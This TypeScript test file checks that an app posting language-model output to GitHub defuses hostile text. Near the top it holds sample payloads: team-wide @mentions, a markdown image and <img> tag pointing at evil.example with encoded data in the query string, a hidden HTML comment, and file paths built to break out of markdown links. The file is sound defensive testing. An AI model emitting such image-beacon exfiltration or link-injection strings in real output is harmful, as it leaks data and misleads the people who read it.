// What the models write is posted as the app: a reply that mentions a team, an image whose URL
// carries data to another host, raw HTML, a file path made to break out of its link. Each is
// posted defused: nobody is pinged, nothing is fetched from elsewhere, every link stays whole.

import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  DEMO_REPO_FILES,
  implementerOnTask,
  scriptDemoFeature,
} from "../../testkit/demo-feature.ts";
import { byTool, type Reply } from "../../testkit/fakes/model/index.ts";
import { type Journey, journey } from "../../testkit/journey.ts";
import { waitFor } from "../../testkit/services.ts";
import { type Harness, OWNER, REPO } from "../../testkit/stack.ts";
import { refused, settle, startReliabilityHarness } from "./support/suite.ts";

const FILE = "posted-text";
let h: Harness;
let d: Journey;
let hostileBa = false;
let hostilePaths = false;

const LEAK = "https://evil.example/pixel.png?d=c2VjcmV0";
const HOSTILE_REPLY = `Thanks! cc @org/everyone and @someone-else.\n\n![status](${LEAK})\n<img src="${LEAK}"><!-- hidden -->\n\nWhich port?`;
/** Paths that end a markdown link early when put into one as they are. */
const TRICKY_PATHS = ["src/a).js", "src/b](https:/evil.example).js", "src/c d[1].js"];

beforeAll(async () => {
  h = await startReliabilityHarness({ files: DEMO_REPO_FILES });
  d = journey(h, { maintainer: true });
  h.model.respond(
    (r) => hostileBa && byTool("submit_ba_reply")(r),
    (): Reply => ({
      toolUse: { name: "submit_ba_reply", input: { reply: HOSTILE_REPLY, brief: null } },
    }),
  );
  h.model.respond(
    (r) => hostilePaths && implementerOnTask("T001")(r),
    (r): Reply => {
      const turns = r.body.messages.filter((m) => m.role === "assistant").length;
      if (turns === 0) {
        return {
          toolUse: TRICKY_PATHS.map((path) => ({
            name: "create",
            input: { path, content: "export {};\n" },
          })),
        };
      }
      return {
        toolUse: { name: "finish", input: { summary: "Added files.", tasksDone: ["T001"] } },
      };
    },
  );
  scriptDemoFeature(h.model);
});
afterAll(async () => {
  if (h) await settle(FILE, h);
  await h?.stop();
});

/** Every link destination in the PR body after the link to `path`'s code span, decoded. */
function linkTarget(body: string, path: string, branch: string): string | null {
  const at = body.indexOf(`${path}\``);
  if (at < 0) return null;
  const rest = body.slice(at + path.length).replace(/^`+ ?`*/, "");
  const m = /^\]\(([^()\s]*)\)/.exec(rest.replace(/^ ?`*/, ""));
  if (!m?.[1]) return null;
  const prefix = `/${OWNER}/${REPO}/blob/${branch}/`;
  const target = decodeURIComponent(new URL(m[1]).pathname);
  return target.startsWith(prefix) ? target.slice(prefix.length) : target;
}

describe("model text posted by the app", () => {
  it("a BA reply mentioning a team, with an image to another host and HTML, is posted defused", () =>
    refused(FILE, "BA reply with @org/everyone, a remote image and raw HTML", async () => {
      hostileBa = true;
      const issue = await d.open("Posted text");
      const reply = await waitFor("the BA's reply", () =>
        d.botComments(issue).find((c) => c.body.includes("Which port?")),
      ).finally(() => {
        hostileBa = false;
      });
      expect(reply.body).toContain("`@org/everyone`");
      expect(reply.body).toContain("`@someone-else`");
      // No mention outside a code span, no image or HTML that would load the URL.
      const prose = reply.body.replace(/`[^`]*`/g, "");
      expect(prose).not.toMatch(/@[A-Za-z]/);
      expect(reply.body).not.toMatch(/!\[[^\]]*\]\(https:\/\/evil/);
      expect(reply.body).not.toContain("<img");
      expect(reply.body).not.toContain("hidden");
      expect(prose).not.toContain("evil.example");
      return "message";
    }));

  it("file paths with ) ] [ or a space stay inside their links in the PR body", () =>
    refused(FILE, "PR body links to paths with ) ] [ and spaces", async () => {
      hostilePaths = true;
      const issue = await d.driveToReviews("Tricky paths", { planIn: "issue" });
      const f = await d.waitStage(issue, "awaiting_merge", 40_000).finally(() => {
        hostilePaths = false;
      });
      const body = h.github.pull(OWNER, REPO, f.prNumber ?? 0).body ?? "";
      for (const path of TRICKY_PATHS) {
        expect({ path, target: linkTarget(body, path, f.branch ?? "") }).toEqual({
          path,
          target: path,
        });
      }
      return "message";
    }));
});
